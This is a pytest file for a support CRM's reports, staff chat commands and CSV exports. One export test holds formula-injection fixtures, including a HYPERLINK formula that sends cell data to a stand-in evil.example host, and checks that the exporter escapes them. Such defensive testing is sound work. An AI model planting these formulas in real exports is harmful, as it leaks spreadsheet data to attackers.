"""Reports and staff commands, checked against data the test made through the API."""

from __future__ import annotations

import base64
import csv
import functools
import io
from datetime import UTC, datetime, timedelta

import aiohttp
import pytest
from bson import ObjectId
from pymongo.errors import AutoReconnect

from crm_core import reporting
from crm_core.reporting import csv_text
from hub.listeners import ListenerLoop
from hub.metrics import Metrics
from tests.conftest import chat_message

DAY = datetime(2026, 1, 5, tzinfo=UTC)


def at(hour: int, minute: int = 0, day: datetime = DAY) -> datetime:
    return day + timedelta(hours=hour, minutes=minute)


async def _build_day(hub) -> dict[str, str]:
    """Three conversations on DAY (two answered, one resolved) and one the day before."""
    agent = await hub.login("agent")
    ids = {}
    for name in ("a", "b", "c", "old"):
        ack = await (
            await hub.chat(chat_message(f"hello from {name}", sender={"id": name, "email": None}))
        ).json()
        ids[name] = ack["conversation_id"]
    await hub.chat(chat_message("a again", sender={"id": "a", "email": None}))
    for name in ("a", "b"):
        await hub.call("POST", f"/api/v1/conversations/{ids[name]}/messages", agent, json={"text": "on it"})
    await hub.call(
        "POST", f"/api/v1/conversations/{ids['c']}/messages", agent, json={"text": "hmm", "private": True}
    )
    await hub.call("PATCH", f"/api/v1/conversations/{ids['a']}", agent, json={"status": "resolved"})
    times = {
        "a": {"created_at": at(9), "first_response_at": at(9, 10), "resolved_at": at(10)},
        "b": {"created_at": at(9), "first_response_at": at(9, 30)},
        "c": {"created_at": at(11)},
        "old": {"created_at": at(12, day=DAY - timedelta(days=1))},
    }
    for name, fields in times.items():
        oid = ObjectId(ids[name])
        await hub.db.conversations.update_one({"_id": oid}, {"$set": fields})
        await hub.db.messages.update_many(
            {"conversation_id": oid}, {"$set": {"created_at": fields["created_at"]}}
        )
        await _move_events(hub, oid, **fields)
    # The reports follow the events: replayed into fresh roll-ups, they say what happened when.
    await rebuild_rollups(hub)
    return ids


async def rebuild_rollups(hub) -> int:
    """What `python -m hub reports rebuild` does, from another holder than the hub's own
    listener (which it fences off)."""
    rollups = hub.services.reports.rollups
    return await ListenerLoop(hub.db, rollups, Metrics()).replay(hub.services.event_log, rollups.clear)


async def rewrite_events(db, conversation_id: ObjectId, change) -> None:
    """Apply `change(event)` to each stored event of a conversation (history rewritten for a test)."""
    async for commit in db.events.find({"events.conversation_id": conversation_id}):
        for event in commit["events"]:
            if event.get("conversation_id") == conversation_id:
                change(event)
        await db.events.replace_one({"_id": commit["_id"]}, commit)


async def _move_events(hub, conversation_id: ObjectId, created_at, first_response_at=None, resolved_at=None):
    """Rewrite a conversation's events as if it had happened at these times."""

    def move(event) -> None:
        if event["type"] == "message.received":
            event["at"] = created_at
        elif event["type"] == "message.sent":
            event["at"] = first_response_at
            if event["first_response_seconds"] is not None:
                event["first_response_seconds"] = (first_response_at - created_at).total_seconds()
        elif event["type"] == "conversation.status_changed" and resolved_at:
            event["at"] = resolved_at
            event["resolution_seconds"] = (resolved_at - created_at).total_seconds()

    await rewrite_events(hub.db, conversation_id, move)


async def test_summary_and_stats_command_agree_with_the_data(hub):
    await _build_day(hub)
    manager = await hub.login("manager")
    status, summary = await hub.call("GET", "/api/v1/reports/summary?from=2026-01-05", manager)
    assert status == 200
    figures = summary["figures"]
    assert (figures["conversations_new"], figures["conversations_resolved"]) == (3, 1)
    assert figures["conversations_open"] == 3 and "conversations_open" not in summary["change"]  # open now
    assert (figures["messages_in"], figures["messages_out"]) == (4, 2)
    assert (figures["first_response_median_s"], figures["first_response_p90_s"]) == (1200, 1800)
    assert figures["resolution_median_s"] == 3600
    assert summary["previous"]["conversations_new"] == 1
    assert summary["change"]["conversations_new"] == 200.0

    status, reply = await hub.call(
        "POST", "/api/v1/commands", manager, json={"text": "/stats 2026-01-05..2026-01-05"}
    )
    assert status == 200 and reply["chart_png_base64"] is None
    assert "Conversations: 3 new (+200%), " in reply["text"]
    assert "1 resolved" in reply["text"]
    assert "Messages: 4 in" in reply["text"] and "2 out" in reply["text"]
    assert "First response: median 20m 00s, p90 30m 00s" in reply["text"]
    assert "Resolution: median 1h 00m" in reply["text"]

    _, chat_only = await hub.call("GET", "/api/v1/reports/summary?from=2026-01-05&channel=email", manager)
    assert chat_only["figures"]["conversations_new"] == 0


async def test_stats_week_draws_a_chart(hub):
    await hub.chat(chat_message())
    manager = await hub.login("manager")
    _, reply = await hub.call("POST", "/api/v1/commands", manager, json={"text": "/stats week chat"})
    assert reply["text"].startswith("Stats for week (UTC), chat:")
    assert "Messages: 1 in" in reply["text"]
    assert base64.b64decode(reply["chart_png_base64"]).startswith(b"\x89PNG")


async def test_commands_refuse_non_managers_and_help_with_mistakes(hub):
    agent, admin = await hub.login("agent"), await hub.login("admin")
    _, refused = await hub.call("POST", "/api/v1/commands", agent, json={"text": "/stats today"})
    assert refused["text"].startswith("Sorry, numbers are for managers and admins")
    _, helped = await hub.call("POST", "/api/v1/commands", agent, json={"text": "/help"})
    assert "/stats" in helped["text"] and "/sla" in helped["text"]
    for text, expected in [
        ("/dance", "I don't know '/dance'"),
        ("/stats fortnight", "I don't understand the period 'fortnight'"),
        ("/stats 2026-02-10..2026-02-01", "The range ends before it starts"),
        ("/stats week month", "Give one period and at most one channel"),
        ("/leads everything", "Use /leads, /leads mine"),
    ]:
        status, reply = await hub.call("POST", "/api/v1/commands", admin, json={"text": text})
        assert status == 200 and expected in reply["text"], (text, reply)
    _, leads = await hub.call("POST", "/api/v1/commands", admin, json={"text": "/leads"})
    assert leads["text"] == "No leads to show."


async def test_sla_lists_conversations_waiting_too_long(hub):
    manager = await hub.login("manager")
    ack = await (await hub.chat(chat_message("anyone there?"))).json()
    await hub.chat(chat_message("fresh one", sender={"id": "fresh", "email": None}))
    _, calm = await hub.call("POST", "/api/v1/commands", manager, json={"text": "/sla"})
    assert calm["text"].startswith("No conversation has waited longer than 60 min")
    await hub.db.conversations.update_one(
        {"_id": ObjectId(ack["conversation_id"])},
        {"$set": {"waiting_since": datetime.now(UTC) - timedelta(hours=2, minutes=5)}},
    )
    _, late = await hub.call("POST", "/api/v1/commands", manager, json={"text": "/sla"})
    assert late["text"].startswith("1 conversation(s) waiting longer than 60 min")
    assert "waiting 2h 05m: anyone there?" in late["text"]


async def test_csv_export_of_a_period(hub):
    ids = await _build_day(hub)
    manager, agent = await hub.login("manager"), await hub.login("agent")
    async with hub.client.get("/api/v1/reports/export.csv?from=2026-01-05&to=2026-01-05",
                              headers={"Authorization": f"Bearer {manager}"}) as resp:  # fmt: skip
        assert resp.status == 200 and resp.content_type == "text/csv"
        rows = _sheet(await resp.read())
    assert [r["id"] for r in rows] == [ids["a"], ids["b"], ids["c"]]
    assert rows[0]["status"] == "resolved" and float(rows[0]["resolution_seconds"]) == 3600
    assert float(rows[1]["first_response_seconds"]) == 1800 and rows[1]["resolution_seconds"] == ""
    status, _ = await hub.call("GET", "/api/v1/reports/export.csv", agent)
    assert status == 403
    status, body = await hub.call("GET", "/api/v1/reports/summary?from=2026-02-10&to=2026-02-01", manager)
    assert status == 400 and body["error"]["code"] == "bad_query"
    status, _ = await hub.call("GET", "/api/v1/reports/summary?from=yesterday", manager)
    assert status == 400


async def test_response_and_resolution_times_by_channel_and_intent(hub):
    agent, manager = await hub.login("agent"), await hub.login("manager")
    ack = await (await hub.chat(chat_message("my invoice is wrong"))).json()
    conversation = ack["conversation_id"]
    await hub.db.conversations.update_one(
        {"_id": ObjectId(conversation)}, {"$set": {"last_intent": "billing"}}
    )
    await hub.call("POST", f"/api/v1/conversations/{conversation}/messages", agent, json={"text": "On it"})
    await hub.call("PATCH", f"/api/v1/conversations/{conversation}", agent, json={"status": "resolved"})
    status, times = await hub.call("GET", "/api/v1/reports/times", manager)
    assert status == 200
    chat, billing = times["by_channel"]["chat"], times["by_intent"]["billing"]
    assert chat == billing
    assert 0 <= chat["first_response_median_s"] <= chat["resolution_median_s"] < 60
    assert (await hub.call("GET", "/api/v1/reports/times", agent))[0] == 403


def _sheet(body: bytes) -> list[dict[str, str]]:
    """The rows as a spreadsheet reads them: UTF-8 after a byte order mark, which Excel needs to
    read Chinese names as Chinese."""
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


async def test_csv_export_streams_chunks_that_spreadsheets_read_as_text(hub, monkeypatch):
    monkeypatch.setattr(reporting, "EXPORT_CHUNK_ROWS", 2)
    names = [
        "王小明",
        '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
        "@SUM(A1:A9)",
        "-",
        "+86 138",
        "Ana",
        "Bob;=1+1;@SUM(A1)",
    ]
    ids = []
    for n, name in enumerate(names):
        ack = await (
            await hub.chat(chat_message(f"question {n}", sender={"id": f"s{n}", "name": name, "email": None}))
        ).json()
        ids.append(ack["conversation_id"])
    manager = await hub.login("manager")
    async with hub.client.get(
        "/api/v1/reports/export.csv", headers={"Authorization": f"Bearer {manager}"}
    ) as resp:
        assert resp.status == 200 and resp.headers["Content-Type"] == "text/csv; charset=utf-8"
        body = await resp.read()
    rows = _sheet(body)
    assert [r["id"] for r in rows] == ids  # four chunks, each row once, in order
    assert [r["contact_name"] for r in rows] == [
        "王小明", '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")', "'@SUM(A1:A9)", "-", "'+86 138", "Ana",
        "Bob;'=1+1;'@SUM(A1)",
    ]  # fmt: skip
    # A spreadsheet that splits lists at ";" (German, French) keeps a quoted cell whole.
    assert "\"Bob;'=1+1;'@SUM(A1)\"" in body.decode("utf-8-sig")


async def test_an_export_the_database_fails_during_is_never_a_complete_looking_file(hub, monkeypatch):
    async def failing(period, channel=None, *, rows_before: int):
        if rows_before:
            yield csv_text(reporting.EXPORT_FIELDS, [{"id": "1"}] * rows_before, first=True)
        raise AutoReconnect("the database went away")

    manager = await hub.login("manager")
    headers = {"Authorization": f"Bearer {manager}"}
    monkeypatch.setattr(hub.services.reports, "export_csv", functools.partial(failing, rows_before=0))
    async with hub.client.get("/api/v1/reports/export.csv", headers=headers) as resp:
        assert resp.status == 503 and (await resp.json())["error"]["code"] == "database_unavailable"
    monkeypatch.setattr(hub.services.reports, "export_csv", functools.partial(failing, rows_before=3))
    async with hub.client.get("/api/v1/reports/export.csv", headers=headers) as resp:
        assert resp.status == 200
        with pytest.raises(aiohttp.ClientPayloadError):
            await resp.read()
    assert (await hub.call("GET", "/healthz"))[0] == 200  # and the hub goes on


async def test_daily_csv_reads_the_rollups(hub):
    await _build_day(hub)
    manager = await hub.login("manager")
    async with hub.client.get("/api/v1/reports/daily.csv?from=2026-01-04&to=2026-01-05",
                              headers={"Authorization": f"Bearer {manager}"}) as resp:  # fmt: skip
        assert resp.status == 200 and resp.content_type == "text/csv"
        rows = _sheet(await resp.read())
    by_day = {(r["day"], r["channel"]): r for r in rows}
    assert set(by_day) == {("2026-01-04", "chat"), ("2026-01-05", "chat")}
    day = by_day[("2026-01-05", "chat")]
    assert (day["conversations_new"], day["conversations_resolved"], day["messages_in"]) == ("3", "1", "4")
    assert float(day["first_response_median_s"]) == 1200 and float(day["resolution_median_s"]) == 3600
    assert by_day[("2026-01-04", "chat")]["conversations_new"] == "1"
